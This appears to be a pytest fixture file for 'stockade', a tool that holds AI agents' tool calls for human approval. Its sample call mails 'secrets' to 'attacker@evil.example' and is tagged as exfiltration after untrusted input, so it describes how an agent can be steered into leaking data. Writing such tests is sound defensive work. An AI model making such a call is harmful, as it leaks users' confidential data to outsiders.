from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from stockade.approvals import ApprovalRequest, ApprovalStore, new_request
from stockade.models import Category, Decision, ToolCall
from stockade.testing import FakeClock, MemoryAuditSink

POLICY = "sha256:" + "a" * 64


def make_call(**over: object) -> ToolCall:
    base: dict[str, object] = {
        "server": "mail",
        "tool": "send",
        "arguments": {"to": "attacker@evil.example", "body": "secrets"},
        "client": "agent",
        "session": "s1",
    }
    base.update(over)
    return ToolCall.model_validate(base)


def make_request(
    clock: FakeClock,
    *,
    rid: str = "apr_1",
    timeout_s: float = 60.0,
    call: ToolCall | None = None,
    category: Category = Category.EXFILTRATION,
) -> ApprovalRequest:
    return new_request(
        call or make_call(),
        Decision.require_approval("sink call after untrusted input", category, rule="r0"),
        request_id=rid,
        image_digest="sha256:" + "b" * 64,
        policy_hash=POLICY,
        now=clock.now(),
        timeout_s=timeout_s,
    )


@pytest.fixture
def clock() -> FakeClock:
    return FakeClock()


@pytest.fixture
def sink() -> MemoryAuditSink:
    return MemoryAuditSink()


@pytest.fixture
def store(tmp_path: Path, sink: MemoryAuditSink) -> Iterator[ApprovalStore]:
    with ApprovalStore(tmp_path / "runs.db", audit=sink) as s:
        yield s
